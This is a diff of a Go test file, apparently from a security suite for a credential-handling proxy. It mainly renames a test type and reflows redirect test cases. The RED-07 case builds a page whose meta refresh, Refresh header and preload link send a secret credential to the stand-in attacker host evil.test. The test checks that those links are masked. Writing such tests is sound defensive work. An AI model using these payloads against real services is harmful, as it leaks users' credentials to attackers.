@@ -11,9 +11,9 @@ func red() category {
 		"RED-05": "there is no endpoint yet that runs an operation by name",
 	}, cases: []attack{
 		{id: "RED-01", does: "a redirect is the client's to follow, and its target is judged like any other",
-			run: func(c *trial) {
+			run: func(c *testCase) {
 				for _, status := range []int{301, 302, 303, 307, 308} {
-					c.each(fmt.Sprint(status), func(c *trial) {
+					c.each(fmt.Sprint(status), func(c *testCase) {
 						c.origin("api.good.test").plays(func(v *visit) { v.reply(status, "", "Location", "https://evil.test/?x=1") })
 						a := c.get("api.good.test", "/v1/items")
 						c.is("the redirect", a, status)
@@ -24,9 +24,9 @@ func red() category {
 					})
 				}
 			}},
-		{id: "RED-02", does: "a redirect that keeps the method takes no credential with it", run: func(c *trial) {
+		{id: "RED-02", does: "a redirect that keeps the method takes no credential with it", run: func(c *testCase) {
 			for _, status := range []int{307, 308} {
-				c.each(fmt.Sprint(status), func(c *trial) {
+				c.each(fmt.Sprint(status), func(c *testCase) {
 					c.origin("api.good.test").plays(func(v *visit) {
 						v.reply(status, "", "Location",
 							"https://key.good.test/v1/items")
@@ -40,25 +40,26 @@ func red() category {
 				})
 			}
 		}},
-		{id: "RED-04", does: "a redirect to clear text leads nowhere", run: func(c *trial) {
+		{id: "RED-04", does: "a redirect to clear text leads nowhere", run: func(c *testCase) {
 			c.origin("api.good.test").plays(func(v *visit) { v.reply(302, "", "Location", "http://api.good.test/v1/items") })
 			c.is("the redirect", c.get("api.good.test", "/v1/items"), 302)
 			c.refused("its target", c.absolute("http://api.good.test/v1/items", "api.good.test"), hostNotAllowed)
 			c.refused("its target in a tunnel", c.tunClear("api.good.test:80", head("GET", "api.good.test:80", "/v1/items")),
 				hostNotAllowed)
 		}},
-		{id: "RED-07", does: "links that carry the credential are wiped, and nothing is fetched ahead", run: func(c *trial) {
-			c.origin("api.good.test").plays(func(v *visit) {
-				s := v.credential()
-				v.reply(200, `<meta http-equiv="refresh" content="0;url=https://evil.test/?`+s+
-					`"><link rel=preload href="https://evil.test/`+s+`">`, "Content-Type", "text/html",
-					"Refresh", "0;url=https://evil.test/?"+s, "Link", "<https://evil.test/"+s+">; rel=preload")
-			})
-			a := c.get("api.good.test", "/v1/items")
-			c.is("the page", a, 200)
-			if strings.Count(a.body, stars(40)) != 2 || !strings.Contains(a.header.Get("Refresh"), stars(40)) {
-				c.failf("got %s %v", a, a.header)
-			}
-		}},
+		{id: "RED-07", does: "links that carry the credential are wiped, and nothing is fetched ahead",
+			run: func(c *testCase) {
+				c.origin("api.good.test").plays(func(v *visit) {
+					s := v.credential()
+					v.reply(200, `<meta http-equiv="refresh" content="0;url=https://evil.test/?`+s+
+						`"><link rel=preload href="https://evil.test/`+s+`">`, "Content-Type", "text/html",
+						"Refresh", "0;url=https://evil.test/?"+s, "Link", "<https://evil.test/"+s+">; rel=preload")
+				})
+				a := c.get("api.good.test", "/v1/items")
+				c.is("the page", a, 200)
+				if strings.Count(a.body, stars(40)) != 2 || !strings.Contains(a.header.Get("Refresh"), stars(40)) {
+					c.failf("got %s %v", a, a.header)
+				}
+			}},
 	}}
 }
